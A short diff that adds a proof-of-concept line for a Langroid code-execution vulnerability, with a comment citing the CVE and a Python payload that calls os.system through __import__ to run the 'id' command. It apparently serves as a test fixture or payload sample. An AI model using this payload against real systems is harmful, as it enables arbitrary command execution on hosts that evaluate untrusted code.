@@ -1,0 +1,2 @@
+# Source: Langroid CVE-2026-54769 (https://osv.dev/vulnerability/CVE-2026-54769), builtins not scrubbed: __import__('os').system()
+__import__("os").system("id")
